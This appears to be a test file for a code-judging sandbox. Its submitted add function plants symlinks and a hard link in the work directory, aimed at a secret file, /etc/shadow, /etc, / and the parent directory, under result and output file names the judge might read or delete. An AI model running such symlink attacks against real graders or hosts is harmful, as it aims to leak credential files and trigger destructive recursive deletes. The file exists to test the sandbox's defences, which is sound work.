# Attack: symlink tricks against the judge's result reading and cleanup.
# In the work dir it plants symlinks to the secret file @SECRET_FILE@, to
# /etc/shadow and to the secret dir @SECRET_DIR@ (directory links that a
# careless recursive delete would follow), under names the judge might
# read back (result and output files) or delete; it also swaps its own
# files for links and tries a hard link to the secret.
# Expected: AC; afterwards the secret file, its directory and /etc/shadow
# are untouched on the host and the secret appears nowhere in the result.
import os

NAMES = ("result", "result.json", "results.json", "output", "out.txt",
         "stdout", "stderr", "harness.json", "report.json", "a.out",
         "solution", "main", "prog", "cases.json", "input.json")


def plant(target, name):
    try:
        if os.path.lexists(name):
            os.rename(name, name + ".orig")
        os.symlink(target, name)
    except OSError as e:
        print(name, e)


def add(a, b):
    os.chdir("/work")
    for name in NAMES:
        plant("@SECRET_FILE@", name)
    plant("/etc/shadow", "shadow")
    for i, target in enumerate(("@SECRET_DIR@", "/etc", "/", "..")):
        plant(target, "dir%d" % i)
        try:
            os.makedirs("nest%d/deeper" % i, exist_ok=True)
            plant(target, "nest%d/deeper/link" % i)
        except OSError as e:
            print(e)
    try:
        os.link("@SECRET_FILE@", "hard")
    except OSError as e:
        print("link:", e)
    print(sorted(os.listdir(".")))
    return a + b
